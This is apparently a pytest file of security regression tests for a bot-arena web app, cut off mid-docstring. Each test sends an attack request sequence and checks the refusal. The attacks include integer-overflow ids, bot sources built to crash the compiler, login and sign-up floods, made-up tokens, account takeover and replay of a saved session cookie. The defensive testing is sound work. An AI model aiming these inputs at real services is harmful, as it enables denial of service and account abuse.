"""Issue 20's security findings, each as the attack (a request sequence) and the refusal
expected, on SQLite, and on PostgreSQL too where SQL can differ. One section per finding."""

from __future__ import annotations

import multiprocessing.context
import os
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.exc import OperationalError

from arena.cli.main import cli
from arena.service.accounts import create_account, create_token
from arena.service.classes import NewClass, create_class
from arena.store.db import Store
from arena.store.models import Bot, BotVersion, Tournament, Upload, User
from tests.paths import REFERENCE_BOTS
from tests.submissions import submitted
from tests.uploads import store_upload
from tests.web.conftest import (
    HASHER,
    PASSWORD,
    SlowHasher,
    csrf_token,
    logged_in,
    make_app,
    store_bots,
)
from web.limits import JOIN_LIMIT, LOGIN_ADDRESS_LIMIT, SIGNUP_LIMIT

# --- findings 6, 8: server errors on bad input; the regression test's own edges ---------------

#: What the int converters' routes are asked with: the largest id both databases hold
#: (PostgreSQL's INTEGER: 2^31 - 1), past it (PostgreSQL: "integer out of range"), past
#: SQLite's 2^63 - 1 (OverflowError), and longer than Python's int() reads from text.
IDS = [str(2**31 - 1), str(2**31), str(2**63 - 1), str(2**63), str(10**40), "9" * 5000]


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _organiser(store: Store) -> dict[str, str]:
    """The headers of an organiser's token with every scope."""
    olga = create_account(store, "olga", PASSWORD, role="organiser", hasher=HASHER)
    return _bearer(create_token(store, olga.id, "all", ["read", "upload", "run"]))


def _int_routes(app: Flask) -> list[tuple[str, str]]:
    """(method, rule) of every route with an int converter in its path."""
    found = []
    for rule in app.url_map.iter_rules():
        if "<int:" in rule.rule:
            method = "GET" if "GET" in (rule.methods or set()) else "POST"
            found.append((method, rule.rule))
    return found


@pytest.mark.backends("sqlite", "postgresql")  # the integers' range
def test_ids_past_the_databases_integers_are_404_on_every_route(app: Flask, store: Store) -> None:
    """Each route with a number in its path (games, branches, uploads, versions, tokens, the
    API's), asked for ids past what the databases hold, answers 404 (JSON under /api/),
    never 500 (SQLite) or 503 (PostgreSQL)."""
    store_bots(store)
    headers = _organiser(store)
    create_account(store, "ada", PASSWORD, hasher=HASHER)
    client = logged_in(app, "ada")
    csrf = csrf_token(client, "/account/tokens")
    routes = _int_routes(app)
    assert len(routes) >= 18, routes
    assert ("GET", "/api/v1/bots/<owner>/<name>/versions/<int:version>/source") in routes
    for method, rule in routes:
        for number in IDS:
            path = re.sub(r"<int:\w+>", number, rule)
            path = re.sub(r"<(?:\w+:)?(\w+)>", "alice", path).replace("alice/alice", "alice/greedy")
            if method == "POST" and path.startswith("/api/"):  # a token, a body it reads
                body = {"turn": 0, "move": "6-6", "code": "none"}  # a move, a join
                reply = client.post(path, headers=headers, json=body)
            elif method == "POST":
                reply = client.post(path, data={"csrf_token": csrf})
            else:
                reply = client.get(path, headers=headers if path.startswith("/api/") else {})
            assert reply.status_code == 404, (method, path, reply.status_code)
            if path.startswith("/api/"):
                assert reply.get_json()["error"]["status"] == 404, path


def test_a_source_too_deep_to_compile_is_a_400_sentence(app: Flask, store: Store) -> None:
    """A bot file within the size limit whose compile() overflows the compiler's stack (60k
    terms of a sum) or its memory (200k unary minus signs) is refused with one sentence on
    the page and the API; nothing is stored."""
    create_account(store, "ada", PASSWORD, hasher=HASHER)
    token = create_token(store, 1, "up", ["read", "upload"])
    client = logged_in(app, "ada")
    sources = {
        "sums.py": "x = " + "+".join(["1"] * 60_000) + "\n",
        "minus.py": "x = " + "-" * 200_000 + "1\n",
    }
    for filename, text in sources.items():
        data = {"csrf_token": csrf_token(client, "/upload"), "source": (_file(text), filename)}
        page = client.post("/upload", data=data, content_type="multipart/form-data")
        assert page.status_code == 400, (filename, page.status_code)
        message = f"{filename} is too deeply nested or too long an expression to compile"
        assert message[1:] in page.get_data(as_text=True)  # (the page capitalises it)
        api = app.test_client().post(
            "/api/v1/bots",
            data={"source": (_file(text), filename)},
            headers=_bearer(token),
            content_type="multipart/form-data",
        )
        assert api.status_code == 400, (filename, api.status_code)
        said = api.get_json()["error"]["message"]
        assert said.startswith(message) and said.count(". ") == 0 and said.endswith("."), said
    with store.read() as session:
        assert session.scalar(select(Upload)) is None


def _file(text: str) -> Any:
    import io

    return io.BytesIO(text.encode())


def test_an_api_upload_without_a_body_is_a_400(app: Flask, store: Store) -> None:
    """POST /api/v1/bots with no form at all (schemathesis's first find) is 400, not 500."""
    reply = app.test_client().post("/api/v1/bots", headers=_organiser(store))
    assert reply.status_code == 400, reply.status_code
    assert reply.get_json()["error"]["message"] == (
        "send the bot as the multipart file field 'source'"
    )


def test_the_api_answers_a_busy_database_in_json(
    app: Flask, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A database that does not answer (locked, unreachable) is a 503 in the API's error
    shape under /api/ (with Retry-After), the HTML page elsewhere."""
    headers = _organiser(store)

    def busy(*_: object, **__: object) -> None:
        raise OperationalError("SELECT", {}, Exception("database is locked"))

    monkeypatch.setattr("web.api.bot_list", busy)
    monkeypatch.setattr("web.bots.bot_list", busy)
    reply = app.test_client().get("/api/v1/bots", headers=headers)
    assert reply.status_code == 503 and reply.mimetype == "application/json"
    error = reply.get_json()["error"]
    assert error["status"] == 503 and "database" in error["message"]
    assert int(reply.headers["Retry-After"]) > 0
    page = app.test_client().get("/bots")
    assert page.status_code == 503 and page.mimetype == "text/html"
    # any other error (a bug) too, as a deployment answers it (not propagated as in tests)
    app.config["PROPAGATE_EXCEPTIONS"] = False

    def bug(*_: object, **__: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr("web.api.bot_list", bug)
    crashed = app.test_client().get("/api/v1/bots", headers=headers)
    assert crashed.status_code == 500 and crashed.get_json()["error"]["status"] == 500


def test_unsupported_methods_answer_as_the_openapi_document_says(app: Flask, store: Store) -> None:
    """TRACE (and any method an operation does not list) is 405 in the API's error shape
    with an Allow header, and the document says so (docs/api.md, "Errors")."""
    headers = _organiser(store)
    client = app.test_client()
    document = client.get("/api/v1/openapi.json").get_json()
    assert "answers 405 with an `Allow` header (TRACE too)" in document["info"]["description"]
    unsupported = [
        ("TRACE", "/api/v1/bots"),
        ("TRACE", "/api/v1/rule-sets"),
        ("PUT", "/api/v1/compares/x"),
        ("DELETE", "/api/v1/tournaments/x"),
    ]
    for method, path in unsupported:
        reply = client.open(path, method=method, headers=headers)
        assert reply.status_code == 405, (method, path, reply.status_code)
        assert reply.get_json()["error"]["status"] == 405
        assert "GET" in reply.headers["Allow"] or "POST" in reply.headers["Allow"]


def _compare_bots(store: Store) -> dict[str, str]:
    """alice (greedy v1, v2) and bob (first); alice's run token's headers."""
    alice = create_account(store, "alice", PASSWORD, hasher=HASHER)
    create_account(store, "bob", PASSWORD, hasher=HASHER)
    greedy = (REFERENCE_BOTS / "greedy.py").read_text()
    store.add_bot_version("alice", "greedy", greedy, {})
    store.add_bot_version("alice", "greedy", greedy + "\n# v2\n", {})
    store.add_bot_version("bob", "first", (REFERENCE_BOTS / "random.py").read_text(), {})
    return _bearer(create_token(store, alice.id, "run", ["read", "run"]))


def test_a_compare_of_a_version_against_itself_is_refused(app: Flask, store: Store) -> None:
    """NEW = OLD (the same version however it is spelt) is refused with one sentence on
    the page and the API, and nothing is stored; the page offers OLD's versions, by default
    the one before NEW."""
    headers = _compare_bots(store)
    client = logged_in(app, "alice")
    form = client.get("/compares/new?new=alice/greedy").get_data(as_text=True)
    old = form.split('name="old"')[1].split("</select>")[0]
    assert '<option value="alice/greedy@1" selected>' in old, old
    assert '<option value="alice/greedy@2">' in old and '<option value="bob/first@1">' in old
    same = [("alice/greedy", "alice/greedy"), ("alice/greedy", "alice/greedy@2"),
            ("alice/greedy@1", "alice/greedy@v1")]  # fmt: skip
    for new, old_spec in same:
        data = {"csrf_token": csrf_token(client, "/compares/new"), "new": new, "old": old_spec,
                "rules": "draw"}  # fmt: skip
        page = client.post("/compares/new", data=data)
        assert page.status_code == 400, (new, old_spec)
        assert "NEW and OLD are the same version" in page.get_data(as_text=True)
        body = {"new": new, "old": old_spec, "rules": "draw"}
        api = app.test_client().post("/api/v1/compares", json=body, headers=headers)
        assert api.status_code == 400, (new, old_spec, api.status_code)
        assert api.get_json()["error"]["message"].startswith("NEW and OLD are the same version")
    missing = app.test_client().post(
        "/api/v1/compares", json={"new": "alice/greedy", "old": "bob/first@7", "rules": "draw"},
        headers=headers,
    )  # fmt: skip
    assert missing.status_code == 400
    assert "no version 7 of bob/first" in missing.get_json()["error"]["message"]
    with store.read() as session:
        assert session.scalar(select(Tournament)) is None
    started = app.test_client().post(
        "/api/v1/compares",
        json={"new": "alice/greedy", "old": "alice/greedy@1", "rules": "draw"},
        headers=headers,
    )
    assert started.status_code == 202, started.get_json()


# --- findings 2, 7: the work an address can make the server do; limits keyed on what cannot
# --- be made up, counted together by every process ---------------------------------------

#: A password no checker of common passwords refuses.
STUDENT_PASSWORD = "lantern quiet river 42"


def _allowed(limit: str) -> int:
    """The first amount of a limit string: ``"60 per minute;600 per hour"`` -> 60."""
    return int(limit.split()[0])


def _attempt_login(client: FlaskClient, name: str, password: str, token: str) -> int:
    data = {"name": name, "password": password, "csrf_token": token}
    return client.post("/login", data=data).status_code


def _attempt_signup(app: Flask, name: str) -> int:
    client = app.test_client()  # each student's own browser, the class's one address
    data = {
        "name": name,
        "password": STUDENT_PASSWORD,
        "confirm": STUDENT_PASSWORD,
        "csrf_token": csrf_token(client, "/signup"),
    }
    return client.post("/signup", data=data).status_code


def _one_hash_at_a_time(
    store: Store, url: str, tmp_path: Path, seconds: float
) -> Iterator[tuple[Flask, SlowHasher]]:
    """The app with one hash at a time, each taking ``seconds``, and no line in front of it
    (what a full line does: tests/web/test_crowds.py has the line)."""
    hasher = SlowHasher(seconds)
    app = make_app(
        url, tmp_path / "broker", ARENA_PASSWORD_HASHER=hasher, ARENA_HASH_SLOTS=1,
        ARENA_HASH_QUEUE=0,
    )  # fmt: skip
    yield app, hasher
    app.extensions["arena_store"].close()


@pytest.fixture
def slow_app(store: Store, url: str, tmp_path: Path) -> Iterator[tuple[Flask, SlowHasher]]:
    """Each hash a second: the refusals are timed against it."""
    yield from _one_hash_at_a_time(store, url, tmp_path, 1.0)


@pytest.fixture
def bound_app(store: Store, url: str, tmp_path: Path) -> Iterator[tuple[Flask, SlowHasher]]:
    """Each hash a hundredth of a second: the tests that count hashes or take the bound
    themselves, and time nothing."""
    yield from _one_hash_at_a_time(store, url, tmp_path, 0.01)


def test_made_up_names_from_one_address_are_limited_whatever_the_name(app: Flask) -> None:
    client = app.test_client()
    token = csrf_token(client)
    allowed = _allowed(LOGIN_ADDRESS_LIMIT)
    statuses = [
        _attempt_login(client, f"nobody{i}", "wrong password", token) for i in range(allowed)
    ]
    assert statuses == [401] * allowed  # each name new, so the per-name limit never counts
    refused = client.post("/login", data={"name": "x", "password": "y", "csrf_token": token})
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) > 0
    assert "Too many login attempts" in refused.get_data(as_text=True)


def test_sign_ups_from_one_address_are_limited(app: Flask, store: Store) -> None:
    allowed = _allowed(SIGNUP_LIMIT)
    assert [_attempt_signup(app, f"signer{i}") for i in range(allowed)] == [302] * allowed
    assert _attempt_signup(app, "one-too-many") == 429
    with store.read() as session:  # the refused one was not created
        assert session.scalar(select(User).where(User.name == "one-too-many")) is None


def _attempt_join(app: Flask, code: str, name: str) -> int:
    client = app.test_client()  # each student's own browser, the school's one address
    data = {
        "pseudonym": name,
        "password": STUDENT_PASSWORD,
        "confirm": STUDENT_PASSWORD,
        "csrf_token": csrf_token(client, "/signup"),
    }
    return client.post(f"/join/{code}", data=data).status_code


def test_joins_count_against_their_class_not_their_address(app: Flask, store: Store) -> None:
    # Two classes behind one school address join in the same minute: more than the
    # address's sign-ups, each class within its own code's budget. A code that names no
    # class counts as the address's sign-up.
    teacher = create_account(store, "tess", PASSWORD, role="teacher", hasher=HASHER)
    codes = [create_class(store, teacher, NewClass(name=n)).join_code for n in ("7a", "7b")]
    per_class = _allowed(SIGNUP_LIMIT) // 2 + 5  # together, past the address's sign-ups
    for code in codes:
        assert code is not None
        joined = [_attempt_join(app, code, f"{code[:3]}{i:02d}") for i in range(per_class)]
        assert joined == [302] * per_class
    assert _allowed(JOIN_LIMIT) > per_class
    assert _attempt_signup(app, "after-the-classes") == 302  # the address's own budget
    guesses = [_attempt_join(app, f"NOPE{i:04d}", f"guess{i}") for i in range(60)]
    assert 429 in guesses  # past the address's sign-ups
    assert set(guesses) <= {400, 429}  # no such code: the form again, 400


def test_a_classroom_behind_one_address_signs_up_and_logs_in_within_a_minute(
    app: Flask,
) -> None:
    # Passes before the fix too: it is the bound the limits above must not cross.
    started = time.monotonic()
    students = [f"student{i:02d}" for i in range(1, 31)]
    assert [_attempt_signup(app, name) for name in students] == [302] * 30
    logins = []
    for name in students:
        client = app.test_client()
        logins.append(_attempt_login(client, name, STUDENT_PASSWORD, csrf_token(client)))
    assert logins == [302] * 30
    assert time.monotonic() - started < 60


def test_concurrent_logins_beyond_the_hashing_bound_and_its_line_are_refused_at_once(
    slow_app: tuple[Flask, SlowHasher],
) -> None:
    app, hasher = slow_app
    attackers = [app.test_client() for _ in range(8)]
    tokens = [csrf_token(client) for client in attackers]
    together = threading.Barrier(len(attackers))
    results: list[tuple[int, float, str | None, str]] = []

    def attempt(number: int) -> None:
        data = {"name": f"made-up{number}", "password": "guess", "csrf_token": tokens[number]}
        together.wait()
        started = time.monotonic()
        reply = attackers[number].post("/login", data=data)
        results.append(
            (
                reply.status_code,
                time.monotonic() - started,
                reply.headers.get("Retry-After"),
                reply.get_data(as_text=True),
            )
        )

    threads = [threading.Thread(target=attempt, args=(n,)) for n in range(len(attackers))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    busy = [r for r in results if r[0] == 503]
    assert sorted(r[0] for r in results).count(401) >= 1
    assert len(busy) >= 5, [r[:3] for r in results]  # not queued behind the running hash
    assert all(seconds < 0.8 and retry and int(retry) >= 1 for _, seconds, retry, _ in busy), [
        r[:3] for r in busy
    ]
    assert all("busy checking other passwords" in body for *_, body in busy)
    assert hasher.calls.count("verify") == len(results) - len(busy)


def test_a_busy_refusal_shows_the_form_again_with_what_was_typed(
    bound_app: tuple[Flask, SlowHasher],
) -> None:
    """Refused for busy (no hashing slot free), the login and sign-up forms come back with
    the sentence and the name typed (503, Retry-After), not an error page that loses them."""
    app, _ = bound_app
    guard = app.config["ARENA_PASSWORD_HASHER"].guard
    client = app.test_client()
    token = csrf_token(client)
    signup_token = csrf_token(client, "/signup")
    with guard.slot():  # another request is hashing
        login = client.post(
            "/login", data={"name": "Ada Lovelace", "password": "x", "csrf_token": token}
        )
        signup = client.post(
            "/signup",
            data={"name": "grace", "password": STRONG, "confirm": STRONG,
                  "csrf_token": signup_token},
        )  # fmt: skip
    for reply, name in ((login, "Ada Lovelace"), (signup, "grace")):
        page = reply.get_data(as_text=True)
        assert reply.status_code == 503 and reply.headers["Retry-After"] == "1"
        assert "busy checking other passwords" in page
        assert f'name="name" value="{name}"' in page, page[-2000:]
        assert 'name="password"' in page


def test_an_unknown_name_costs_one_verify_within_the_same_bound(
    bound_app: tuple[Flask, SlowHasher], store: Store
) -> None:
    app, hasher = bound_app
    create_account(store, "ada", PASSWORD, hasher=HASHER)
    client = app.test_client()
    token = csrf_token(client)
    assert _attempt_login(client, "nobody", "wrong password", token) == 401
    hasher.calls.clear()
    assert _attempt_login(client, "nobody-else", "wrong password", token) == 401
    assert hasher.calls == ["verify"]  # as a wrong password costs, no more
    guard = app.config["ARENA_PASSWORD_HASHER"].guard
    with guard.slot():  # the bound is taken: unknown and known names alike are refused
        assert _attempt_login(client, "nobody-else", "wrong password", token) == 503
        assert _attempt_login(client, "ada", PASSWORD, token) == 503
    assert _attempt_login(client, "ada", PASSWORD, token) == 302


def test_a_flood_refused_as_busy_still_ends_in_429(store: Store, url: str, tmp_path: Path) -> None:
    # Refusals for busy do not count against the login limits (a class presses again), but
    # they count against the address's posts of password forms: a flood that would keep
    # the bound busy for everyone is cut off.
    app = make_app(
        url, tmp_path / "broker", ARENA_HASH_SLOTS=1, ARENA_HASH_QUEUE=0,
        ARENA_PASSWORD_FORM_LIMIT="20 per minute",
    )  # fmt: skip
    try:
        client = app.test_client()
        token = csrf_token(client)
        with app.config["ARENA_PASSWORD_HASHER"].guard.slot():  # another request is hashing
            statuses = [_attempt_login(client, f"made-up{i}", "guess", token) for i in range(21)]
        assert statuses == [503] * 20 + [429]
        assert _attempt_signup(app, "newcomer") == 429  # one budget for the password forms
    finally:
        app.extensions["arena_store"].close()


def test_made_up_tokens_from_one_address_exhaust_one_bucket(
    store: Store, url: str, tmp_path: Path
) -> None:
    app = make_app(url, tmp_path / "broker", ARENA_API_LIMIT="5 per minute")
    try:
        account = create_account(store, "ada", PASSWORD, hasher=HASHER)
        ada = create_token(store, account.id, "ci", ["read"])
        client = app.test_client()
        made_up = [{"Authorization": f"Bearer da_madeup{i}"} for i in range(6)]
        statuses = [client.get("/api/v1/rule-sets", headers=h).status_code for h in made_up]
        assert statuses == [401] * 5 + [429]
        refused = client.get("/api/v1/bots", headers={"Authorization": "Bearer da_other"})
        assert refused.status_code == 429  # the whole API, not one route
        assert refused.get_json()["error"]["status"] == 429
        assert int(refused.headers["Retry-After"]) > 0
        # A verified token counts in its account's bucket, not in the address's.
        real = client.get("/api/v1/rule-sets", headers={"Authorization": f"Bearer {ada}"})
        assert real.status_code == 200
    finally:
        app.extensions["arena_store"].close()


def _one_gunicorn_process(url: str, instance: str) -> list[int]:
    """One gunicorn process of ``arena serve``: the app as it creates it (its instance folder
    in the environment, no limiter or broker URL), three API requests with made-up tokens;
    their statuses."""
    os.environ["ARENA_INSTANCE_PATH"] = instance
    os.environ.pop("ARENA_LIMITER_URL", None)
    os.environ.pop("ARENA_BROKER_URL", None)
    from web import create_app

    app = create_app(url, {"ARENA_API_LIMIT": "4 per minute"})
    try:
        client = app.test_client()
        return [
            client.get("/api/v1/rule-sets", headers=_bearer(f"da_{n}")).status_code
            for n in range(3)
        ]
    finally:
        app.extensions["arena_store"].close()


def test_two_processes_count_in_one_bucket(
    store: Store, url: str, tmp_path: Path, processes: multiprocessing.context.ForkServerContext
) -> None:
    """Two processes (forked from the test process's fork server, each making its own app)
    count in the instance folder's one bucket."""

    def process() -> list[int]:
        with processes.Pool(1) as pool:  # a new process each time
            statuses: list[int] = pool.apply(
                _one_gunicorn_process, (url, str(tmp_path / "instance"))
            )
        return statuses

    assert process() == [401, 401, 401]
    assert process() == [401, 429, 429]  # the second process counts on from the first's 3


# --- findings 1, 3, 4, 5: takeover, names, sessions that end, weak passwords ------------------

#: A password the policy accepts (not common, no repetition, no name in it).
STRONG = "violet tram 42"


def _demo(store: Store, directory: Path) -> None:
    """As ``arena serve --demo`` leaves it: bots owned by ``reference``, a user with no
    password, and others' (alice, bob: also password-less owners)."""
    store_bots(store)


def _sign_up(client: FlaskClient, name: str, password: str = STRONG) -> tuple[int, str]:
    data = {"name": name, "password": password, "confirm": password}
    reply = client.post("/signup", data={**data, "csrf_token": csrf_token(client, "/signup")})
    return reply.status_code, reply.get_data(as_text=True)


def _log_in(client: FlaskClient, name: str, password: str = PASSWORD) -> int:
    data = {"name": name, "password": password, "csrf_token": csrf_token(client)}
    return client.post("/login", data=data).status_code


def _user(store: Store, name: str) -> tuple[str | None, str, int]:
    with store.read() as session:
        user = session.scalars(select(User).where(User.name == name)).one()
        return user.password_hash, user.role, user.session_epoch


def _reference_bots(store: Store) -> list[tuple[str, int]]:
    with store.read() as session:
        rows = session.execute(
            select(Bot.name, BotVersion.version)
            .join(BotVersion, BotVersion.bot_id == Bot.id)
            .join(User, User.id == Bot.owner_id)
            .where(User.name == "reference")
            .order_by(Bot.name, BotVersion.version)
        ).all()
    return [(str(name), int(version)) for name, version in rows]


@pytest.mark.backends("sqlite", "postgresql")  # names compared case-blind
@pytest.mark.seed(build=_demo)
@pytest.mark.parametrize("name", ["reference", "Reference", " REFERENCE ", "alice"])
def test_sign_up_cannot_take_an_owner_without_a_password(
    app: Flask, store: Store, name: str
) -> None:
    """Finding 1: POST /signup as ``reference`` (any spelling) is refused, and nothing of
    reference's changes: no password, no new session, no version, the same role."""
    owner = name.strip().lower()
    before = (_user(store, owner), _reference_bots(store))
    client = app.test_client()
    status, page = _sign_up(client, name)
    assert status == 400
    assert f"The name &#39;{name.strip()}&#39; is taken." in page
    assert (_user(store, owner), _reference_bots(store)) == before
    assert _user(store, owner)[0] is None
    assert client.get("/account/tokens").status_code == 302  # not logged in
    assert _log_in(client, owner, STRONG) == 401


@pytest.mark.seed(build=_demo)
def test_claiming_an_owner_is_the_admins_users_add(store: Store, url: str) -> None:
    """Finding 1: ``arena users add reference`` (the operator) sets the password of the
    password-less owner and says so; a second ``users add`` finds the name taken."""
    runner = CliRunner()
    args = ["users", "add", "reference", "--url", url]
    done = runner.invoke(cli, args, input=f"{STRONG}\n{STRONG}\n")
    assert done.exit_code == 0, done.output
    assert "reference: password set on the existing user" in done.output
    assert _user(store, "reference")[0] is not None
    again = runner.invoke(cli, args, input=f"{STRONG}\n{STRONG}\n")
    assert again.exit_code != 0 and "is taken" in again.output
    assert "`arena users role NAME ROLE` changes a role" in again.output  # finding 9


def test_login_limit_counts_the_name_as_its_key(app: Flask, store: Store) -> None:
    """Finding 3: 30 wrong passwords as " "*n + "bob" (and case variants) meet the login
    limit: some answer 429, as for "bob" itself."""
    create_account(store, "bob", PASSWORD, hasher=HASHER)
    client = app.test_client()
    statuses = [
        _log_in(client, " " * n + ("bob" if n % 2 else "BOB"), "wrong password")
        for n in range(1, 31)
    ]
    assert 429 in statuses
    assert set(statuses) <= {401, 429}


@pytest.mark.backends("sqlite", "postgresql")  # names compared case-blind
def test_a_name_with_spaces_or_capitals_is_the_same_account(app: Flask, store: Store) -> None:
    """Finding 3: "bob   " (and "BOB") with bob's password log in as bob; "STUDENT01" cannot
    sign up beside "student01", nor "Bob" beside "bob"."""
    bob = create_account(store, "bob", PASSWORD, hasher=HASHER)
    for typed in ("bob   ", " BOB"):
        client = app.test_client()
        assert _log_in(client, typed) == 302
        tokens = client.get("/account/tokens")
        assert tokens.status_code == 200 and ">bob</a>" in tokens.get_data(as_text=True)
    assert _sign_up(app.test_client(), "student01")[0] == 302
    for taken in ("STUDENT01", "Student01 ", "Bob"):
        status, page = _sign_up(app.test_client(), taken)
        assert status == 400 and "is taken" in page, taken
    with store.read() as session:
        names = session.scalars(select(User.name).order_by(User.name)).all()
    assert list(names) == ["bob", "student01"]
    assert _user(store, "bob")[2] == 0 and bob.name == "bob"


def _cookie(client: FlaskClient) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def _with_cookie(app: Flask, value: str) -> FlaskClient:
    thief = app.test_client()
    thief.set_cookie("session", value)
    return thief


def test_logout_ends_the_session_on_the_server(app: Flask, store: Store) -> None:
    """Finding 4: a session cookie saved before POST /logout opens nothing after it."""
    create_account(store, "ada", PASSWORD, hasher=HASHER)
    client = logged_in(app, "ada")
    saved = _cookie(client)
    assert _with_cookie(app, saved).get("/account/tokens").status_code == 200
    reply = client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    assert reply.status_code == 302
    replayed = _with_cookie(app, saved).get("/account/tokens")
    assert replayed.status_code == 302 and "/login" in replayed.headers["Location"]


def test_an_upload_link_after_logout_goes_to_the_login_page(app: Flask, store: Store) -> None:
    """Finding 4: the page of one's own upload, opened after logging out, asks to log in
    (and comes back after), rather than a 404."""
    ada = create_account(store, "ada", PASSWORD, hasher=HASHER)
    source = (REFERENCE_BOTS / "greedy.py").read_text()
    upload_id = store_upload(store, ada.id, "mybot", "mybot.py", source)
    client = logged_in(app, "ada")
    assert client.get(f"/uploads/{upload_id}").status_code == 200
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    reply = client.get(f"/uploads/{upload_id}")
    assert reply.status_code == 302
    assert reply.headers["Location"] == f"/login?next=/uploads/{upload_id}"
    # the page left open polls its live part: the whole page goes to the login page
    poll = client.get(
        f"/uploads/{upload_id}/live",
        headers={"HX-Request": "true", "HX-Current-URL": f"http://localhost/uploads/{upload_id}"},
    )
    assert poll.status_code == 200 and poll.get_data(as_text=True) == ""
    assert poll.headers["HX-Redirect"] == f"/login?next=/uploads/{upload_id}"


@pytest.mark.parametrize("revoke", [True, False])
def test_a_password_change_ends_other_sessions_and_offers_to_revoke_tokens(
    app: Flask, store: Store, revoke: bool
) -> None:
    """Finding 4: after a password change, another session's cookie opens nothing; the API
    tokens stop working when the box (ticked on the page) is left ticked."""
    ada = create_account(store, "ada", PASSWORD, hasher=HASHER)
    token = create_token(store, ada.id, "laptop", ["read"])
    bearer = {"Authorization": f"Bearer {token}"}
    phone, laptop = logged_in(app, "ada"), logged_in(app, "ada")
    form = laptop.get("/account/password").get_data(as_text=True)
    assert 'name="revoke_tokens" checked' in form
    data = {"current": PASSWORD, "new": STRONG, "confirm": STRONG}
    if revoke:
        data["revoke_tokens"] = "on"
    data["csrf_token"] = csrf_token(laptop, "/account/password")
    assert laptop.post("/account/password", data=data).status_code == 302
    assert laptop.get("/account/tokens").status_code == 200  # this session goes on
    assert phone.get("/account/tokens").status_code == 302
    assert app.test_client().get("/api/v1/bots", headers=bearer).status_code == (
        401 if revoke else 200
    )


#: Weak passwords and the reason each is refused for: the issue's own (too short, now that
#: at least 12 characters are asked), common ones (the list), repetitions and runs.
WEAK = {
    "aaaaaaaa": "12 to 256 characters",
    "12345678": "12 to 256 characters",
    "password": "12 to 256 characters",
    "password1234": "most common",
    "Password1234": "most common",
    "1qaz2wsx3edc": "most common",
    "qwerty123456": "most common",
    "aaaaaaaaaaaa": "repetition or a sequence",
    "passwordpassword": "repetition or a sequence",
    "abcdefghijkl": "repetition or a sequence",
    "zyxwvutsrqpo": "repetition or a sequence",
    "123456789012": "easy to guess",  # issue 32's: zxcvbn's estimate
    "qwertyuiopas": "easy to guess",
    "iloveyou1234": "easy to guess",
    "Domino Arena": "easy to guess",
}


@pytest.mark.parametrize(
    ("password", "reason"),
    [
        *WEAK.items(),
        ("carolina", "12 to 256 characters"),
        ("carolinacarolina", "repetition or a sequence"),
        ("Carolina 2026!", "may not contain the name"),
        ("my name is CAROLINA", "may not contain the name"),
    ],
)
def test_weak_passwords_are_refused_at_sign_up(
    app: Flask, store: Store, password: str, reason: str
) -> None:
    """Finding 5: sign-up refuses short and common passwords, repetitions, runs, and the
    name (or a password that contains it), saying why; nothing is stored."""
    status, page = _sign_up(app.test_client(), "carolina", password)
    assert status == 400 and reason in page
    with store.read() as session:
        assert session.scalar(select(User).where(User.name == "carolina")) is None


def test_weak_passwords_are_refused_on_change_and_at_the_command_line(
    app: Flask, store: Store, url: str
) -> None:
    """Finding 5: the password change and ``arena users add`` apply the same policy."""
    app.config["ARENA_PASSWORD_CHANGE_LIMIT"] = "100 per minute"  # more tries than 10
    create_account(store, "ada", PASSWORD, hasher=HASHER)
    client = logged_in(app, "ada")
    for weak in [*WEAK, "ada is my name"]:
        data = {"current": PASSWORD, "new": weak, "confirm": weak}
        data["csrf_token"] = csrf_token(client, "/account/password")
        assert client.post("/account/password", data=data).status_code == 400, weak
    assert _log_in(app.test_client(), "ada") == 302  # the password is unchanged
    for weak in WEAK:
        done = CliRunner().invoke(
            cli, ["users", "add", "root", "--url", url], input=f"{weak}\n{weak}\n"
        )
        assert done.exit_code != 0 and WEAK[weak].lower() in done.output.lower(), weak
    with store.read() as session:
        assert session.scalar(select(User).where(User.name == "root")) is None


# --- competitions (issue 21) --------------------------------------------------------------


def _competition_body(**changes: Any) -> dict[str, Any]:
    from datetime import UTC, datetime, timedelta

    now = datetime.now(UTC)
    return {"name": "cup", "deadline": (now + timedelta(days=7)).isoformat(), **changes}


def _soon() -> str:
    """A week from now as the form's ``datetime-local`` field holds it (UTC)."""
    from datetime import UTC, datetime, timedelta

    return (datetime.now(UTC) + timedelta(days=7)).strftime("%Y-%m-%dT%H:%M")


def _form_flash(page: str) -> str:
    found = re.search(r'<ul class="flashes"[^>]*>\s*<li>(.*?)</li>', page, re.S)
    return found.group(1) if found else ""


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"name": "new"}, "'new' is a page of its own: choose another competition name."),
        ({"move_ms": 10**400}, "move seconds must be 0.01 to 10 s, not inf s."),
        ({"players": 10**400}, "players must be 2 to 5, not a number that large."),
        ({"final_top": -(10**400)}, "final top must be 2 to 32, not a number that large."),
        (
            {"opens": "0001-01-01T00:00:00+00:00", "time_zone": "America/New_York"},
            "the opening (1-01-01 UTC) must be within 3660 days of now.",
        ),
    ],
)
def test_competition_creation_refuses_hostile_values_in_a_sentence(
    app: Flask, store: Store, changes: dict[str, Any], message: str
) -> None:
    """Review of issue 21: a competition called "new" hid behind /competitions/new; a
    number beyond a float's range was a 500 (OverflowError), an opening in the year 1
    was stored and its page was a 500 in a zone west of UTC. Now each is a 400 with a
    sentence, and nothing is stored."""
    client = app.test_client()
    sent = client.post(
        "/api/v1/competitions", json=_competition_body(**changes), headers=_organiser(store)
    )
    assert sent.status_code == 400, sent.get_json()
    assert sent.get_json()["error"]["message"] == message
    assert client.get("/api/v1/competitions", headers=_organiser_again(store)).get_json() == {
        "competitions": []
    }


def _organiser_again(store: Store) -> dict[str, str]:
    with store.read() as session:
        olga = session.scalar(select(User.id).where(User.name == "olga"))
    assert olga is not None
    return _bearer(create_token(store, olga, "again", ["read"]))


def test_the_competition_form_refuses_hostile_values_in_a_sentence(
    app: Flask, store: Store
) -> None:
    """The web form: the name "new" and a move time beyond a float (a 500 before) are a
